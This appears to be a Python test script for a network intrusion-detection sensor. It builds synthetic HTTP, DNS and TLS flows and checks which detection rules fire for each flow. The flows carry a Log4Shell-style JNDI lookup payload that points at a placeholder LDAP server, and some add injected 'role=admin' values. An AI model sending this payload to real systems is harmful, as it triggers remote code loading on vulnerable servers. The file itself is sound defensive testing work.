#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""sightings.py SENSOR: rules over sightings that ask for buffers of the transaction as well. Which rule speaks for each
flow, and how often, is written down here: no other engine has such rules."""
import collections
import pathlib
import sys
import tempfile

import f_names
import family
import sensor
from family import answer, http

LOOKUP = b"${jndi:ldap://203.0.113.9:1389/a}"
HEAD = b"X-Api: " + LOOKUP + b"\r\n"
COOKIE = b"Cookie: sid=abc; role=guest\r\n"

fam = family.Family("sightings")
del family.FAMILIES["sightings"]


def post(headers, body, **more):
    return http(b"POST", b"/api/%79", headers=headers, body=body, **more)


WEB = {"dport": 80}
fam.flow("head", http(uri=b"/api/x", headers=HEAD + COOKIE), ("s", answer()), **WEB)
fam.flow("head_alone", http(uri=b"/other", headers=HEAD), ("s", answer()), **WEB)
fam.flow("cookie", http(headers=b"Cookie: sid=" + LOOKUP + b"\r\n"), ("s", answer()), **WEB)
fam.flow("body", post(COOKIE + b"Content-Length: %d\r\n" % (len(LOOKUP) + 2), b"q=" + LOOKUP), ("s", answer()), **WEB)
fam.flow("body_admin", post(b"", b"q=" + LOOKUP + b"&role=admin"), ("s", answer()), **WEB)
fam.flow("both", post(HEAD, b"role=admin"), ("s", answer()), **WEB)
fam.flow("both_cut", post(HEAD, b"role=admin"), ("s", answer()), cuts=(10, 60, 110, 118, 121), **WEB)
fam.flow("both_chunked", post(HEAD + b"Transfer-Encoding: chunked\r\n", family.chunked(b"role=", b"admin")), ("s", answer()), **WEB)
fam.flow("both_guest", post(HEAD, b"role=guest"), ("s", answer()), **WEB)
fam.flow("both_broken", post(HEAD + b"Content-Length: 100\r\n", b"role=admin"), ends=False, **WEB)
fam.flow("both_long", post(HEAD, b"x" * 50000 + b"role=admin" + b"y" * 20000), ("s", answer()), **WEB)
fam.flow("too_far", post(HEAD, b"x" * 70000 + b"role=admin"), ("s", answer()), **WEB)
fam.flow("next_request", post(HEAD, b"role=guest"), ("s", answer()), post(b"", b"role=admin"), ("s", answer()), **WEB)
fam.flow("earlier_cookie", http(headers=COOKIE), ("s", answer()), http(headers=HEAD), ("s", answer()), **WEB)
fam.flow("pipelined", http(headers=COOKIE) + http(headers=HEAD) + http(headers=HEAD + COOKIE), ("s", answer() * 3), **WEB)
fam.flow("no_http", LOOKUP, dport=7777)
fam.flow("name", f_names.query(LOOKUP + b".evil.example"), proto="udp", dport=53)
fam.flow("hello", f_names.client_hello(LOOKUP), ("s", f_names.server_hello(f_names.GOOD)), dport=443)

RULES = {
    "cookie": 'jndi.scheme; content:"ldap"; bsize:4; http.cookie; content:"sid=abc"; http.method; content:"GET"; priority:1;',
    "admin": 'jndi.scheme; content:"ldap"; http.request_body; content:"role=admin"; priority:1;',
    "header": 'jndi.scheme; content:"ldap"; http.header_names; content:"|0d 0a|X-Api|0d 0a|"; http.start; content:"/other"; priority:2;',
    "post": 'jndi.scheme; content:"ldap"; http.request_line; content:"POST /api/%79 "; http.request_body; content:!"admin"; priority:2;',
    "query": 'jndi.scheme; content:"ldap"; dns.query; content:"evil.example"; endswith; priority:2;',
    "sni": 'jndi.scheme; content:"ldap"; tls.sni; content:"jndi"; priority:2;',
    "each": 'jndi.scheme; content:"ldap"; http.request_header; content:"Cookie|3a 20|sid=$"; startswith; priority:2;',
    "any": 'jndi.scheme; content:"ldap"; priority:3;',
}
for options in RULES.values():
    fam.rule("alert ip any any -> any any (%s)" % options)
EXPECTED = {
    "head": {"cookie": 1}, "head_alone": {"header": 1}, "cookie": {"each": 1}, "body": {"post": 1}, "body_admin": {"admin": 1},
    "both": {"admin": 1}, "both_cut": {"admin": 1}, "both_chunked": {"admin": 1}, "both_guest": {"post": 1},
    "both_broken": {"admin": 1}, "both_long": {"admin": 1}, "too_far": {"post": 1}, "next_request": {"post": 1},
    "earlier_cookie": {"any": 1}, "pipelined": {"any": 1, "cookie": 1}, "no_http": {"any": 1}, "name": {"query": 1}, "hello": {"sni": 1},
}


def spoken(program, folder):
    capture = folder / "capture.pcap"
    capture.write_bytes(fam.capture())
    alerts, refused = sensor.run(program, fam.file(), [capture], folder / "sensor")
    if refused:
        sys.exit("refused: %s" % refused)
    names, found = list(RULES), {}
    for event in alerts:
        number = family.number(event["alert"]["signature_id"])
        if 0 <= number < len(names):  # others are about incidents
            found.setdefault(fam.flow_of(event), collections.Counter())[names[number]] += 1
    return found


def main():
    with tempfile.TemporaryDirectory() as name:
        found = spoken(sys.argv[1], pathlib.Path(name))
    bad = 0
    for flow in fam.flows:
        ours = dict(found.get(flow.name, {}))
        if ours != EXPECTED[flow.name]:
            print("%s: %s, expected %s" % (flow.name, ours, EXPECTED[flow.name]))
            bad += 1
    print("%d flows, %d rules: %d differences" % (len(fam.flows), len(RULES), bad))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
